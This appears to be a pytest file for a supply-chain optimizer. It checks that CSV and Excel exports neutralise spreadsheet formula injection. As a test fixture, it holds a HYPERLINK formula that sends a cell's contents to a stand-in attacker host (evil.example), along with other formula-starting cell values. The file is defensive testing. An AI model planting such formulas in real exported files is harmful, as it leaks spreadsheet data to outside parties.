"""Spreadsheet and CSV cells are inert (issue 13, OWASP "CSV Injection").

A title, currency or unit starting with `=` became a live formula in
plan.xlsx; a quote in the currency broke the number format so that money read
back as a date; ids may start with `-`, so CSV cells like `-2-3` evaluated
when opened. Now every text cell is text, and numbers we write stay numbers.
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.styles.numbers import is_date_format

from optimizer.common.inert import (
    csv_frame,
    csv_text,
    format_literal,
    needs_quote,
    plain,
    sheet_text,
)
from optimizer.io.load import load_scenario
from optimizer.io.run_folder import read_run
from optimizer.reports.csv_files import csv_bytes
from optimizer.reports.excel import Formats
from tests.conftest import SCENARIOS, SCENARIOS_2025, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
HOSTILE = f"""
name: inj
title: '{FORMULA.replace("'", "''")}'
currency: 'US"D'
quantity_unit: '@t\\x'
horizon: {{periods: 2, start: 2026-01-01}}
materials:
  -2-3: {{demand: 10, shortage_cost: 1000}}
  -m: {{demand: 5, shortage_cost: 1000}}
suppliers:
  -cn:
    country: -CN
    license_delay_days: 10
    offers:
      -2-3: {{price: 5, capacity: 100}}
      -m: {{price: 5, capacity: 100}}
  au:
    country: AU
    offers:
      -2-3: {{price: 6, capacity: 100}}
disruptions:
  - name: -halt
    probability: 0.2
    effects: [{{country: -CN, availability: 0.5}}]
"""


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("inert")
    path = folder / "inj.yaml"
    path.write_text(HOSTILE)
    out = folder / "run"
    res = run_cli(["run", str(path), "--out", str(out), "--excel"])
    assert res.exit_code == 0, res.output
    return out


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("-2-3", "'-2-3"),
        ("=1+2", "'=1+2"),
        ("+CN", "'+CN"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so that reading back is exact
        ("cn_baotou", "cn_baotou"),
        ("it's", "it's"),
        ("", ""),
    ],
)
def test_csv_text(text: str, cell: str) -> None:
    assert csv_text(text) == cell
    assert plain(cell) == text


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text())
def test_csv_text_round_trips_and_never_starts_a_formula(text: str) -> None:
    cell = csv_text(text)
    assert plain(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_stay_numbers_and_safe_tables_stay_the_same_object() -> None:
    df = pd.DataFrame({"supplier": ["-2-3", "ok"], "quantity": [-5.0, 2.5], "period": [1, -2]})
    assert csv_bytes(df) == (b"supplier,quantity,period\n'-2-3,-5.000000,1\nok,2.500000,-2\n")
    safe = pd.DataFrame({"supplier": ["a", "b"], "quantity": [-1.0, 2.0]})
    assert csv_frame(safe) is safe


@pytest.mark.parametrize(
    "path", sorted([*SCENARIOS.glob("*.yaml"), *SCENARIOS.glob("2025/*.yaml")]), ids=str
)
def test_shipped_scenarios_need_no_quote(path: Path) -> None:
    """Their ids are plain, so plan.csv, orders.csv and inventory.csv keep their bytes:
    every text a table of theirs can hold (supplier, material, country and scenario
    names) needs no quote."""
    sc = load_scenario(path).scenario
    texts = {*sc.suppliers, *sc.materials, *(s.country for s in sc.suppliers.values())}
    texts |= {e.name for e in (*sc.disruptions, *sc.risks)} | {sc.name}
    for text in texts:
        assert csv_text(text) == text, text


def test_csv_files_of_a_hostile_scenario_are_inert(hostile_run: Path) -> None:
    for name in ("plan.csv", "orders.csv", "inventory.csv", "spot.csv", "scenarios.csv"):
        text = (hostile_run / name).read_text()
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.startswith(("=", "+", "-", "@")), (name, line)
    assert "'-2-3,'-cn,'-CN,1," in (hostile_run / "plan.csv").read_text()


def test_reading_back_removes_the_quotes(hostile_run: Path) -> None:
    run = read_run(hostile_run)
    assert set(run.plan["supplier"]) <= {"-cn", "au"}
    assert set(run.plan["material"]) <= {"-2-3", "-m"}
    assert set(run.inventory["scenario"]) == {"base", "-halt"}
    assert set(run.orders["country"]) <= {"-CN", "AU"}


def formulas(path: Path) -> list[str]:
    """Every formula in a workbook, as openpyxl and as the raw XML see it."""
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml") and re.search(rb"<(?:\w+:)?f[ >]", z.read(name)):
                found.append(f"<f> element in {name}")
    return found


def test_the_workbook_has_no_formula_anywhere(hostile_run: Path) -> None:
    path = hostile_run / "plan.xlsx"
    assert formulas(path) == []
    wb = load_workbook(path)
    summary = wb["Summary"]
    titles = [r[:2] for r in summary.iter_rows(values_only=True) if r[0] == "title"]
    assert titles == [("title", FORMULA)]
    title_cell = next(c for c in summary["B"] if c.value == FORMULA)
    assert title_cell.data_type == "s" and title_cell.quotePrefix
    # money is money (a number with a format that holds no date code), not a date
    objective = next(r for r in summary.iter_rows() if r[0].value == "objective")[1]
    assert isinstance(objective.value, (int, float)) and not objective.is_date
    assert not is_date_format(objective.number_format)
    # ids that start like a formula are text; negative numbers would stay numbers
    plan = wb["Plan"]
    ids = {c.value for c in plan["B"][1:]}
    assert ids <= {"-cn", "au"}
    assert all(isinstance(c.value, (int, float)) for c in plan["F"][1:])


def test_workbook_of_a_shipped_scenario_has_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "run"
    res = run_cli(["run", str(SCENARIOS_2025 / "robust-2025.yaml"), "--out", str(out), "--excel"]
    )
    assert res.exit_code == 0, res.output
    assert formulas(out / "plan.xlsx") == []


@pytest.mark.parametrize(
    "text",
    ['US"D', "\\", '"; @', "[Red]", "yyyy-mm-dd", "$", "0.00%", "d", 'a"b"c', "€", "t\x07"],
)
def test_number_formats_hold_any_unit(text: str) -> None:
    """No currency or unit breaks out of its literal: no date, colour or section code."""
    fmt = Formats(text, text)
    for code in (fmt.money, fmt.unit_cost, fmt.qty):
        assert not is_date_format(code), code
        literal = code.split(" ", 1)[1]
        assert literal == format_literal(literal_text(literal))


def literal_text(literal: str) -> str:
    if literal.startswith('"'):
        return literal[1:-1]
    return literal[1::2]


def test_money_in_a_quoted_currency_reads_back_as_a_number(tmp_path: Path) -> None:
    """A quote in `currency` turned money into dates (1968-12-28)."""
    path = tmp_path / "q.yaml"
    path.write_text(HOSTILE)
    out = tmp_path / "run"
    assert run_cli(["run", str(path), "--out", str(out), "--excel"]).exit_code == 0
    wb = load_workbook(out / "plan.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, (dt.datetime, dt.date)):
                    assert ws.title == "Orders" or cell.number_format == "yyyy-mm-dd", (
                        ws.title,
                        cell.coordinate,
                        cell.value,
                    )


def test_characters_a_workbook_cannot_hold_are_escaped() -> None:
    assert sheet_text("a\x07b\x1b[31m\tc\nd") == "a\\x07b\\x1b[31m\tc\nd"
    assert needs_quote("-x") and not needs_quote("x-")
